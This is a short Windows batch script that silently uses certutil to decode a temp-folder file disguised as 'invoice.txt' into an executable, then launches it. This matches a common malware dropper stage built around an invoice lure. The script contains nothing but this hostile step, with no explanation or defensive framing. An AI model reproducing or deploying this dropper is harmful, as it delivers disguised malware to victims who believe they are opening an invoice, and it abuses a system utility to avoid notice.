@echo off
certutil -decode "%TEMP%\invoice.txt" "%TEMP%\invoice.exe" >nul
"%TEMP%\invoice.exe"
